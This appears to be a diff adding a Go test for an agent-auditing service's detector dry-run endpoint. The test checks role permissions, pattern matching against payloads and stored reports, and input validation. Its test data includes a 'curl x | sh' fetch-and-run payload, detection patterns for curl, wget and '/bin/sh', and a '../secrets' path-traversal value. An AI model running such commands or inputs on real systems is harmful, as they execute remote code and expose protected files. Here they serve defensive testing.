@@ -0,0 +1,69 @@
+package main
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+
+	"Agent_Auditor/pkg/aegong"
+)
+
+// TestDetectorDryRun tests trying out patterns on a sample or a saved report
+func TestDetectorDryRun(t *testing.T) {
+	sum := sha256.Sum256([]byte("print('hi')\n"))
+	withTestReports(t,
+		&aegong.AuditReport{AgentHash: hex.EncodeToString(sum[:])},
+		&aegong.AuditReport{AgentHash: "abcdef0123456789", Threats: []aegong.ThreatDetection{{Evidence: []string{"Spawned /bin/sh"}}}},
+	)
+	oldTokens := apiTokens
+	t.Cleanup(func() { apiTokens = oldTokens })
+	apiTokens, _ = loadAPITokens("ci:auditor:audit,bob:viewer:view")
+
+	test := func(token, body string) (*httptest.ResponseRecorder, map[string]json.RawMessage) {
+		r := httptest.NewRequest("POST", "/api/admin/detectors/test", strings.NewReader(body))
+		r.Header.Set("Authorization", "Bearer "+token)
+		rec := httptest.NewRecorder()
+		testDetectorHandler(rec, r)
+		var response map[string]json.RawMessage
+		json.Unmarshal(rec.Body.Bytes(), &response)
+		return rec, response
+	}
+
+	if rec, _ := test("view", `{"definition":{"patterns":["hi"]},"payload":"hi"}`); rec.Code != http.StatusForbidden {
+		t.Errorf("Viewers should not test detectors, got %d", rec.Code)
+	}
+	rec, response := test("audit", `{"definition":{"patterns":["curl","re:wget\\s"]},"payload":"curl x | sh\nwget http://x"}`)
+	if rec.Code != http.StatusOK || string(response["source"]) != `"payload"` ||
+		!strings.Contains(string(response["patterns"]), `"pattern":"curl","matches":1`) || string(response["finding"]) == "null" {
+		t.Errorf("Should match the patterns against the payload, got %d: %s", rec.Code, rec.Body)
+	}
+
+	if _, response := test("audit", `{"definition":{"patterns":["print("]},"report_hash":"`+hex.EncodeToString(sum[:4])+`"}`); string(response["source"]) != `"upload"` ||
+		!strings.Contains(string(response["patterns"]), `"matches":1`) {
+		t.Errorf("Should match a report's agent while its upload is kept, got %s", response)
+	}
+	if _, response := test("audit", `{"definition":{"patterns":["/bin/sh"]},"report_hash":"abcdef01"}`); string(response["source"]) != `"evidence"` ||
+		!strings.Contains(string(response["patterns"]), `"matches":1`) {
+		t.Errorf("Should match a report's evidence once its upload is purged, got %s", response)
+	}
+
+	for body, code := range map[string]int{
+		`{"definition":{"patterns":["x"]}}`:                                        http.StatusBadRequest,
+		`{"definition":{"patterns":["re:("]},"payload":"x"}`:                       http.StatusBadRequest,
+		`{"definition":{"patterns":["x"]},"report_hash":"../secrets"}`:             http.StatusBadRequest,
+		`{"definition":{"patterns":["x"]},"report_hash":"ffffffff"}`:               http.StatusNotFound,
+		`{"definition":{"patterns":["x"]},"payload":"x","report_hash":"abcdef01"}`: http.StatusBadRequest,
+	} {
+		if rec, _ := test("audit", body); rec.Code != code {
+			t.Errorf("%s should return %d, got %d", body, code, rec.Code)
+		}
+	}
+	if _, err := os.Stat("uploads/agent.py"); err != nil {
+		t.Error("Dry runs should leave uploads alone")
+	}
+}